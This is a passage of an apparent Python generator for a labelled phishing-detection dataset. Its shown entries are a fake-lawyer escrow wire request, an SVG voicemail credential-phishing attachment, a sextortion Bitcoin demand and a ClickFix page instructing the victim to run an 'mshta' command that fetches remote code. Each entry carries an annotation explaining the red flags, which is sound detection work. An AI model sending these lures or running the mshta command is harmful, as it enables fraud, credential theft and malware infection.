Bank: Metro Bank PLC, London
IBAN: %s
BIC: MYMBGB2L
Reference: LYN/EXG/2026-114

Please send me the payment confirmation (MT103) as soon as the transfer has been released, so that we can instruct the escrow agent. The funds remain fully refundable should the transaction not complete.

Kind regards,

Jonathan Ashby
Partner, Corporate & M&A
Fieldhouse Ashby LLP
1 Fleet Place, London EC4M 7RA
T +44 20 7946 0912
Authorised and regulated by the Solicitors Regulation Authority (SRA No. 641873)

This email and any attachments are confidential and may be legally privileged. If you are not the intended recipient, please notify the sender immediately and delete it.""" % ids.fmt_iban(ib)
    return Msg('en', 'fake-lawyer-escrow-project-lince',
               when=utc(2026, 10, 8, 9, 58, zone='UK'), zone='UK', route=SY.gmail(workspace=True),
               frm=('Jonathan Ashby', 'j.ashby@fieldhouseashby-law.co.uk'), to=[S('cfo')],
               cc=[('Jürgen Köhler', 'juergen.koehler@examplegroup-eu.com')],
               subject='Project Lince – exclusivity deposit (strictly private & confidential)',
               body=alt(t, 'UTF-8', 'quoted-printable', 'gmail', 'a13'),
               what='"Partner of a London law firm" asks the CFO to wire EUR 186,400 exclusivity deposit for the secret "Project Lince" to a client account.',
               why='Fake-lawyer stage of CEO fraud (follows attack 01): unknown firm on a Google-Workspace look-alike domain, CEO in Cc on the look-alike examplegroup-eu.com, secrecy with a made-up MAR pretext, same-day deadline, asks for MT103.',
               pair='business 01 and 13 (genuine CEO payment request, genuine solicitors)')


# ------------------------------------------------------------------ 14
@add
def a14():
    url = 'https://vm-notify-cloud.com/listen/?mb=' + base64.b64encode(b'oliver.bennett@example.com').decode()
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="480" height="170" viewBox="0 0 480 170">\n'
           '<rect width="480" height="170" rx="10" fill="#f3f5f8" stroke="#c9d1dc"/>\n'
           '<text x="24" y="38" font-family="Segoe UI,Arial" font-size="16" fill="#1b2a41">Voice message - +44 161 496 0732</text>\n'
           '<text x="24" y="62" font-family="Segoe UI,Arial" font-size="12" fill="#5b6b80">Fri 13/11/2026 12:46 - Duration 00:47 - Mailbox oliver.bennett</text>\n'
           '<a xlink:href="%s" href="%s" target="_blank">\n'
           '<rect x="24" y="88" width="432" height="54" rx="27" fill="#0067b8"/>\n'
           '<polygon points="52,103 52,127 72,115" fill="#ffffff"/>\n'
           '<text x="92" y="121" font-family="Segoe UI,Arial" font-size="15" fill="#ffffff">Play message (sign-in required)</text>\n'
           '</a>\n</svg>\n' % (esc(url), esc(url)))
    t = """You have received a new voice message.

From: +44 161 496 0732
Received: Fri 13/11/2026 12:46
Duration: 00:47
Mailbox: oliver.bennett@example.com

The message is attached to this email. Open the attachment to play it in your browser.

Voice Services"""
    h = esp_html('utf-8', [('h', 'New voice message'),
                           ('kv', [('From', '+44 161 496 0732'), ('Received', 'Fri 13/11/2026 12:46'),
                                   ('Duration', '00:47'), ('Mailbox', 'oliver.bennett@example.com')]),
                           ('p', 'The message is attached to this email. Open the attachment to play it in your browser.')],
                 color='#0067b8', brand='Voice Services')
    att = noted(attach(svg.encode(), 'image/svg+xml', 'VM_+441614960732_0047.svg'), 'SVG with embedded link to vm-notify-cloud.com')
    body = multi('mixed', [alt(t, 'UTF-8', 'quoted-printable', 'html', 'a14', html=h), att], bnd('java', 'a14'))
    return Msg('en', 'voicemail-svg-attachment',
               when=utc(2026, 11, 13, 12, 47, zone='UK'), route=SY.ses(),
               frm=('Voice Services', 'voicemail@vm-notify-cloud.com'), to=[S('uk_mgr')],
               subject='New voice message from +44 161 496 0732 (0:47)', body=body,
               what='"Voicemail" notification with an SVG attachment showing a play button.',
               why='SVG attachment phishing: the SVG contains a hyperlink to a credential page on vm-notify-cloud.com with the victim\'s address encoded; sent via Amazon SES from an unrelated domain. The company\'s real voicemail is 3CX with a WAV attachment via the internal relay (business 14).',
               pair='business 14')


# ------------------------------------------------------------------ 15
@add
def a15():
    btc = ids.bech32_address('audit69-extortion')
    t = """Hello!

I have to share bad news with you.
Approximately a few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase such thing online).
Obviously, I have easily managed to log in to your email account (felix.baeumer@example.com).

One week later, I have already installed a Trojan virus to Operating Systems of all the devices that you use to access your email.
It gave me access to all your contacts, your camera and your browsing history.

I have collected videos of you and screenshots of the websites you visited. With one click I can send this material to all your contacts, colleagues and business partners.

I think 1450 USD is a fair price for my silence.
Transfer the equivalent amount in Bitcoin (BTC) to my wallet:

%s

Once I receive the payment, I will delete everything and deactivate the software. You have 48 hours from the moment you opened this email. I can see when you read it.

Do not try to reply to this email, and do not go to the police - I will know, and the material will be sent immediately.""" % btc
    return Msg('en', 'sextortion-bitcoin-spoofed-self',
               when=utc(2026, 12, 12, 4, 21), zone='VN',
               route=SY.bot_direct('113.161.87.214', 'example.com'),
               frm=('', 'felix.baeumer@example.com'), to=[('', 'felix.baeumer@example.com')],
               to_raw='felix.baeumer@example.com',
               subject='Security notice: your account felix.baeumer@example.com has been compromised',
               body=text(t, 'plain', 'utf-8', 'base64'),
               what='Classic extortion claiming device compromise and videos, demands 1450 USD in Bitcoin within 48 h.',
               why='Extortion/sextortion spam: From spoofs the recipient\'s own address, sent directly to MX from a Vietnamese broadband IP with no rDNS and HELO "example.com", bech32 BTC address, base64 body to evade keyword filters.')


# ------------------------------------------------------------------ 16
@add
def a16():
    cmd = 'mshta https://cdn-photoview.click/v/rt4471 # \u2705 I am not a robot - Google reCAPTCHA Verification ID: 4471'
    page = ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Google Drive - Complaint_Photos_RTurner</title>\n'
            '<style>body{font-family:Roboto,Arial,sans-serif;background:#f1f3f4;margin:0}'
            '.bar{background:#fff;padding:12px 20px;border-bottom:1px solid #ddd;font-size:18px;color:#444}'
            '.blur{height:320px;margin:30px auto;width:560px;background:repeating-linear-gradient(45deg,#cfd8dc,#cfd8dc 12px,#b0bec5 12px,#b0bec5 24px);filter:blur(6px)}'
            '.card{position:absolute;top:140px;left:50%%;margin-left:-230px;width:420px;background:#fff;border-radius:8px;box-shadow:0 4px 18px rgba(0,0,0,.25);padding:24px}'
            'textarea{width:100%%;height:58px;font-family:Consolas,monospace;font-size:12px}ol li{margin:8px 0}'
            '</style></head><body>\n<div class="bar">Google Drive &nbsp;|&nbsp; Complaint_Photos_RTurner (4 files)</div>\n'
            '<div class="blur"></div>\n<div class="card">\n<h3>Verify you are human</h3>\n'
            '<p>To protect the shared photos, please complete the verification steps:</p>\n'
            '<ol><li>Press <b>Windows&nbsp;+&nbsp;R</b></li><li>Copy the verification code below and press <b>Ctrl&nbsp;+&nbsp;V</b></li>'
            '<li>Press <b>Enter</b> - the photos will open automatically</li></ol>\n'
            '<textarea readonly>%s</textarea>\n<p style="font-size:11px;color:#777">reCAPTCHA · Privacy · Terms</p>\n</div>\n'
            '</body></html>\n' % esc(cmd))
    t = """Hello,

I collected my new varifocals from your Market Street store on 28 November and within a week both lenses are scratched and the left arm is loose. For £420 this is simply not acceptable.

I've put the photos and my receipt in the attached file as they were too big to send separately. Please look at them and let me know how you are going to put this right. I would like a full refund or a new pair.

Rachel Turner"""
    att = noted(attach(page.encode('utf-8'), 'text/html', 'Complaint_Photos_RTurner.html'),
                'fake Google Drive + "verify you are human" ClickFix page, command: mshta https://cdn-photoview.click/...')
    body = multi('mixed', [alt(t, 'UTF-8', 'quoted-printable', 'gmail', 'a16'), att], bnd('gmail', 'a16m'))
    return Msg('en', 'clickfix-complaint-html-attachment',
               when=utc(2026, 12, 8, 19, 16, zone='UK'), zone='UK', route=SY.gmail(),
               frm=('Rachel Turner', 'rachel.turner.mcr@gmail.com'), to=[S('uk_mgr')],
               subject='Complaint - scratched varifocals, collected 28 November', body=body,
               what='Angry customer complaint about varifocals; the "photos" are an HTML file.',
               why='ClickFix: the HTML attachment imitates Google Drive with a fake CAPTCHA that tells the user to paste an mshta command into Win+R (malware download from cdn-photoview.click). Customer complaints with real photos look like business 15.',
               pair='business 15')
